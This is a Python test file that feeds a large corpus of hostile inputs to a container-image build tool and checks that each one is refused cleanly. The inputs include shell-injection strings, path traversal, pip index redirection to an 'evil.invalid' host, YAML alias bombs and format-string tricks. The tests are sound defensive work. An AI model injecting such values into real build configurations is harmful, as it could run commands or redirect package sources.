"""The hostile corpus: hand-made inputs that try to reach a shell, destroy data or hang buildtool.

Each case edits a fresh copy of tests/fixtures/minimal (images.yaml, images.lock, a site overlay, the
environment or the command line) and runs `buildtool generate` in-process. Every case must end in a
refusal: exit 2, one paragraph naming where (file:line, 'environment' or the flag), nothing written,
no traceback, within a few seconds. A few free-text cases are legal and must come out quoted.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

Edit = Callable[[str], str]


def q(value: str) -> str:
    """A YAML double-quoted scalar for any string (JSON's escapes are YAML's)."""
    return json.dumps(value)


def sub(old: str, new: str) -> Edit:
    def edit(text: str) -> str:
        assert text.count(old) == 1, f"fixture edit is stale: {old!r}"
        return text.replace(old, new)

    return edit


def whole(text: str) -> Edit:
    return lambda _old: text


@dataclass(frozen=True)
class Hostile:
    id: str
    where: str  # a regex the error's first line must match: 'images.yaml:\d+', 'environment', '--out', ...
    config: Edit | None = None
    lock: Edit | None = None
    site: str | None = None  # site overlay text (passed with --site)
    env: dict[str, str] = field(default_factory=dict)
    argv: tuple[str, ...] = ("generate",)


YAML_LINE = r"images\.yaml:\d+"
LOCK_LINE = r"images\.lock:\d+"

# --- payloads ---------------------------------------------------------------------------------------

SHELL = [
    "x;touch /tmp/X", "x\nRUN touch /tmp/X", "$(touch /tmp/X)", "`touch /tmp/X`", "x && touch /tmp/X", "x | tee /tmp/X",
    "x'y", 'x"y', "x\\y", "x${IFS}y", "x y", "x\u0000y", "x\u2028y",
]
PATHS = [
    "/home/app;touch${IFS}/tmp/X", "/a\nRUN touch /tmp/X", "/a b", "/a$(id)", "/a`id`", "/a'b", '/a"b', "/a\\b", "/a|b", "/a&b",
    "relative/path", "/a\tb", "/a>b",
]
URLS = [
    "https://x.invalid/a;touch /tmp/X", "https://x.invalid/a\nRUN touch /tmp/X", "https://x.invalid/$(id)", "https://x.invalid/`id`",
    "https://x.invalid/a b", "https://x.invalid/'", 'https://x.invalid/"', "ftp://x.invalid/a", "file:///etc/passwd",
    "https://x.invalid/a&b", "http://x.invalid:0/", "javascript:alert(1)",
]
TEXT_BAD = ["line\nRUN touch /tmp/X", "a\rb", "nul\u0000", "esc\u001b[31m", "sep\u2028x", "nel\u0085x", "tab\tx"]
TEMPLATES = ["openmpi{version.__class__.__name__}", "openmpi{version[x]}", "openmpi{version:x>99999999}", "openmpi{version!r}",
             "openmpi{", "openmpi}", "openmpi{}", "openmpi{version.foo}", "openmpi{nosuch}", "x\nRUN touch /tmp/X"]

CONDA = """\
    conda-x:
      flavor: conda
      installer: {{url: {url}, sha256: "{sha}"}}
      conda: "24.9.2"
      python: "3.11.10"
      channels: [{channel}]
      prefix: {prefix}
      tag: "conda"
"""
CUDA_APT = """\
    cu-apt:
      flavor: cuda-apt
      cuda: "12.8.90"
      cudnn: "9.10.2.21"
      nccl: "2.27.3"
      repository: {{keyring: {keyring}, keyring_sha256: "{sha}", url: "https://developer.download.nvidia.com/x/"}}
      packages: {{{name}: {version}}}
      tag: "cuda"
"""
SHA = "a" * 64


def conda(url: str = "https://repo.example/m.sh", channel: str = "conda-forge", prefix: str = "/opt/conda") -> Edit:
    return sub("  python:\n", "  python:\n" + CONDA.format(url=q(url), sha=SHA, channel=q(channel), prefix=q(prefix)))


def cuda_apt(keyring: str = "https://developer.download.nvidia.com/k.deb", name: str = "cuda-cudart-12-8", version: str = "12.8.90-1") -> Edit:
    return sub("    cpu: {flavor: none, tag: \"\"}\n",
               "    cpu: {flavor: none, tag: \"\"}\n" + CUDA_APT.format(keyring=q(keyring), sha=SHA, name=q(name), version=q(version)))


def cases() -> list[Hostile]:
    out: list[Hostile] = []

    def add(prefix: str, values: list[str], make: Callable[[str], Edit], where: str = YAML_LINE) -> None:
        for i, v in enumerate(values):
            out.append(Hostile(f"{prefix}-{i}", where, config=make(v)))

    # system layer: every value that reaches a RUN, ENV, USER or WORKDIR line
    add("workdir", PATHS, lambda v: sub("workdir: /home/app", f"workdir: {q(v)}"))
    add("locale", SHELL + ["C.UTF-8\nRUN touch /tmp/X", ""], lambda v: sub("  uid: 1000\n", f"  uid: 1000\n  locale: {q(v)}\n"))
    add("user", SHELL + ["App", "root$", "a" * 33, "1app"], lambda v: sub("  user: app\n", f"  user: {q(v)}\n"))
    add("uid", ["99999999999", "0", "-1", "4294967295", "'1000'", "1.5", "true", "null"], lambda v: sub("uid: 1000", f"uid: {v}"))
    # flavors' fields
    add("venv", PATHS, lambda v: sub('      pip: "25.3"\n', f'      pip: "25.3"\n      venv: {q(v)}\n'))
    add("pip", SHELL + ["latest", "NaN"], lambda v: sub('      pip: "25.3"\n', f"      pip: {q(v)}\n"))
    add("mpi4py", SHELL[:8], lambda v: sub('openmpi: {flavor: openmpi, tag: "openmpi{version}"}',
                                           f'openmpi: {{flavor: openmpi, tag: "openmpi{{version}}", mpi4py: {q(v)}}}'))
    add("ort-version", SHELL[:8], lambda v: sub('ort-cpu: {flavor: ort-cpu, version: "1.23.2",', f"ort-cpu: {{flavor: ort-cpu, version: {q(v)},"))
    add("extra-wheel", ["x\n--index-url http://evil.invalid/", "a b", "a;b", "-x", "a==1", "a'b"],
        lambda v: sub('ort-cpu: {flavor: ort-cpu, version: "1.23.2",', f'ort-cpu: {{flavor: ort-cpu, extra_wheels: {{{q(v)}: "1.0"}}, version: "1.23.2",'))
    add("component-tag", TEMPLATES, lambda v: sub('tag: "openmpi{version}"', f"tag: {q(v)}"))
    add("conda-url", URLS, lambda v: conda(url=v))
    add("conda-channel", SHELL[:10] + ["/abs", "a/"], lambda v: conda(channel=v))
    add("conda-prefix", PATHS[:10], lambda v: conda(prefix=v))
    add("cuda-keyring", URLS[:8], lambda v: cuda_apt(keyring=v))
    add("cuda-package", SHELL[:8] + ["A", "Foo"], lambda v: cuda_apt(name=v))
    add("cuda-version", SHELL[:8] + ["NaN", "1.0-", "v1"], lambda v: cuda_apt(version=v))
    add("bootstrap-mirror", URLS[:6], lambda v: sub('mirror: "http://deb.debian.org/debian"', f"mirror: {q(v)}"))
    # free text: newlines and control characters are refused (other characters are quoted: see below)
    add("description", TEXT_BAD, lambda v: sub("  description: test fixture for buildtool", f"  description: {q(v)}"))
    add("vendor", TEXT_BAD[:5], lambda v: sub("  name: fixture-images\n", f"  name: fixture-images\n  vendor: {q(v)}\n"))
    add("licenses", TEXT_BAD[:5], lambda v: sub("  name: fixture-images\n", f"  name: fixture-images\n  licenses: {q(v)}\n"))
    add("source", URLS[:6], lambda v: sub("  source: https://example.invalid/fixture", f"  source: {q(v)}"))
    add("project-name", ["My Project", "x;y", "x\ny"], lambda v: sub("  name: fixture-images", f"  name: {q(v)}"))
    # image names and tags
    add("image-template", ["{mpi.tag}-{os.tag}\nRUN x", "{os.tag:>999999999}", "{os.tag.__class__}", "UPPER-{os.tag}", "a" * 300 + "-{os.tag}",
                           "{os.tag}!"], lambda v: sub('  image: "{mpi.tag}-{onnxruntime.tag}-{python.tag}-{os.tag}"', f"  image: {q(v)}"))
    add("release-template", ["{date} v{n}", "{date}.v{n}\n", "{date}.{os.tag}", "{date}", "v{n:>99999999}", "{date}:{n}"],
        lambda v: sub('  release: "{date}.v{n}"', f"  release: {q(v)}"))
    add("moving-tag", ["LATEST!", "latest\n", "-x", "a b", "x" * 200, "{date}!"], lambda v: sub("  moving: [latest]", f"  moving: [{q(v)}]"))
    # node ids: keys joined with '.' must not be able to collide
    add("node-id", ["m1.cu128-image", "a.b", "x..y", "sys.x"], lambda v: sub("    none: {flavor: none, tag: \"\"}\n    openmpi:",
                                                                                 f"    none: {{flavor: none, tag: \"\"}}\n    {q(v)}: {{flavor: mpich, tag: \"m\"}}\n    openmpi:"))
    out.append(Hostile("base-key-sys", YAML_LINE, config=sub("bases:\n  debian12:", "bases:\n  debian12.sys:")))
    # checks
    add("check-command", TEXT_BAD[:3], lambda v: sub('    command: "getent passwd app | cut -d: -f7"', f"    command: {q(v)}"))
    add("check-env", ["x\ny", "a\u0000"], lambda v: sub("    env: {LANG: C.UTF-8}", f"    env: {{LANG: {q(v)}}}"))
    # YAML itself
    bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))
    for name, text in [
        ("yaml-alias-bomb", bomb),
        ("yaml-recursive-alias", "schema: 1\nproject: {name: x, licenses: &loop [*loop]}\n"),
        ("yaml-nul-byte", "schema: 1\nproject: {name: \"x\u0000\"}\n".replace("\\u0000", "\u0000")),
        ("yaml-raw-nul", "schema: 1\n\u0000\n"),
        ("yaml-escape-char", "schema: 1\nproject: {name: x\u001b}\n"),
        ("yaml-deep", "x: " + "[" * 500 + "]" * 500 + "\n"),
        ("yaml-merge-key", "base: &b {a: 1}\nschema: 1\nproject: {<<: *b}\n"),
        ("yaml-tabs", "schema: 1\n\tproject: x\n"),
        ("yaml-not-mapping", "- a\n- b\n"),
        ("yaml-binary", "schema: !!binary aGVsbG8=\n"),
    ]:
        out.append(Hostile(name, YAML_LINE, config=whole(text)))
    # the lock: pins that would reach an apt-get line or requirements.txt
    for i, (old, new) in enumerate([
        ('openmpi-bin: {version: "4.1.4-3+b1"', 'openmpi-bin: {version: "4.1.4-3+b1;touch /tmp/X"'),
        ('openmpi-bin: {version: "4.1.4-3+b1"', 'openmpi-bin: {version: "NaN"'),
        ('openmpi-bin: {version: "4.1.4-3+b1"', 'openmpi-bin: {version: "4.1.4\\nRUN touch /tmp/X"'),
        ('python3: {version: "3.11.2-1+b1"', 'python3: {version: "$(touch /tmp/X)"'),
        ('filename: "pool/main/p/python3/python3_3.11.2-1+b1_amd64.deb"', 'filename: "pool/main/p/python3/x.deb;touch /tmp/X"'),
        ('filename: "pool/main/p/python3/python3_3.11.2-1+b1_amd64.deb"', 'filename: "../../etc/passwd.deb"'),
        ('filename: "pool/main/p/python3/python3_3.11.2-1+b1_amd64.deb"', 'filename: "pool/main/p/python3/a b.deb"'),
        ('python3: {version: "3.11.2-1+b1", arch: amd64, archive: debian', 'python3: {version: "3.11.2-1+b1", arch: amd64, archive: "debian evil=http://x"'),
        ('python3: {version: "3.11.2-1+b1", arch: amd64', 'python3: {version: "3.11.2-1+b1", arch: "amd64\\nRUN x"'),
        ('archives: {debian: "http://deb.debian.org/debian"}', 'archives: {debian: "http://deb.debian.org/debian\\" evil=\\"x"}'),
        ('archives: {debian: "http://deb.debian.org/debian"}', 'archives: {debian: "http://deb.debian.org/$(touch /tmp/X)"}'),
        ('openssl: {version:', '"openssl;x": {version:'),
        ("{name: pip, version: \"25.3\"", "{name: \"pip\\n--index-url http://evil.invalid/\", version: \"25.3\""),
        ("{name: pip, version: \"25.3\"", "{name: pip, version: \"25.3 --index-url http://evil.invalid/\""),
        ("{name: pip, version: \"25.3\", sha256: 6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b}",
         "{name: pip, version: \"25.3\", sha256: \"6b86 --trusted-host evil\"}"),
    ]):
        out.append(Hostile(f"lock-{i}", LOCK_LINE, lock=sub(old, new)))
    # the site overlay: the file and the BUILDTOOL_* variables go through the same types
    for i, text in enumerate([
        "registry: https://r.example\n", "registry: r example\n", "registry: r.example/path\n", "namespace: My Team\n",
        "namespace: a//b\n", "ca_bundle: /nonexistent/ca.pem\n", "mirrors: {pypi: \"https://m.example/simple\\n--index-url x\"}\n",
        "mirrors: {apt: \"ftp://m.example/debian\"}\n", "credentials: vault\n", "registry: \"r:99999\"\n", "insecure: maybe\n",
    ]):
        out.append(Hostile(f"site-file-{i}", r"site\.yaml:\d+", site=text, argv=("validate",)))
    for i, (var, value) in enumerate([
        ("BUILDTOOL_CA_BUNDLE", "/nonexistent/ca.pem"), ("BUILDTOOL_PYPI_INDEX", "https://m.example/simple\n--index-url x"),
        ("BUILDTOOL_REGISTRY", "https://r.example"), ("BUILDTOOL_REGISTRY", "r example"), ("BUILDTOOL_NAMESPACE", "My Team"),
        ("BUILDTOOL_APT_MIRROR", "file:///etc"), ("BUILDTOOL_CREDENTIALS", "vault"), ("BUILDTOOL_INSECURE_REGISTRY", "maybe"),
    ]):
        out.append(Hostile(f"site-env-{i}", r"environment", env={var: value}, argv=("validate",)))
    # the command line
    for i, argv in enumerate([
        ("build", "--jobs", "0"), ("build", "--jobs", "-1"), ("verify", "--jobs", "x"), ("lock", "--jobs", "0"),
        ("prune", "--cache-age", "abc"), ("matrix", "--level", "-1"), ("publish", "--jobs", "0"),
    ]):
        out.append(Hostile(f"argv-{i}", r"argument --", argv=argv))
    for i, argv in enumerate([("list", "--filter", "mpi=nosuch"), ("list", "--group", ""), ("list", "--group", "nope"),
                              ("list", "--filter", "mpi="), ("list", "--filter", ""), ("list", "--filter", "gpu=x")]):
        out.append(Hostile(f"selection-{i}", r"--(group|filter)", argv=argv))
    # the writer: what --out must never replace
    for i, target in enumerate([".", "README.md", "images.yaml", "images.lock", "..", "/"]):
        out.append(Hostile(f"out-{i}", r"--out", argv=("generate", "--out", target)))
    return out


CASES = cases()


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 150
    assert len({c.id for c in CASES}) == len(CASES)


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_input_is_refused(case: Hostile, fixture_copy, capsys, monkeypatch):
    root = fixture_copy("minimal")
    (root / "README.md").write_text("# x\n<!-- buildtool:images:begin -->\n<!-- buildtool:images:end -->\n")
    monkeypatch.chdir(root)
    for name, edit in (("images.yaml", case.config), ("images.lock", case.lock)):
        if edit is not None:
            path = root / name
            path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    argv = list(case.argv)
    if case.site is not None:
        (root / "site.yaml").write_text(case.site, encoding="utf-8")
        argv += ["--site", "site.yaml"]
    for var, value in case.env.items():
        monkeypatch.setenv(var, value)
    before = _snapshot(root)
    start = time.monotonic()
    code, out, err = run(capsys, argv)
    elapsed = time.monotonic() - start
    assert elapsed < 10, f"{case.id}: took {elapsed:.1f} s"
    assert code == 2, f"{case.id}: exit {code}\n{out}\n{err}"
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.startswith(("error:", "buildtool"))]
    assert lines and re.search(case.where, lines[0]), f"{case.id}: the error does not say where ({case.where}):\n{err}"
    assert _snapshot(root) == before, f"{case.id}: files changed"
    assert not (root / "generated").exists()


def run(capsys, argv: list[str]) -> tuple[int, str, str]:
    """main() in-process; argparse's refusals (SystemExit 2) count as exit codes too."""
    from buildtool.cli.main import main

    capsys.readouterr()
    try:
        code = main(argv)
    except SystemExit as exc:
        code = int(exc.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# Free text that is legal: it reaches LABEL lines quoted, never raw.
@pytest.mark.parametrize("text", ['quote " inside', "dollar $HOME and ${IFS}", "back\\slash", "semi; colon && pipe |", "`backticks`",
                                  "'single'", "Ünïcode ✓"])
def test_legal_free_text_is_quoted_in_labels(text, fixture_copy, cli, monkeypatch):
    root = fixture_copy("minimal")
    monkeypatch.chdir(root)
    path = root / "images.yaml"
    path.write_text(path.read_text().replace("  description: test fixture for buildtool", f"  description: {q(text)}"))
    assert cli("generate", "--readme", "none.md").code == 0
    dockerfile = (root / "generated/nodes/debian12.sys/Dockerfile").read_text()
    label = re.search(r'org\.opencontainers\.image\.description="((?:[^"\\]|\\.)*)"', dockerfile)
    assert label, dockerfile
    assert re.sub(r"\\(.)", r"\1", label.group(1)) == text
    assert "$" not in label.group(1).replace("\\$", "")
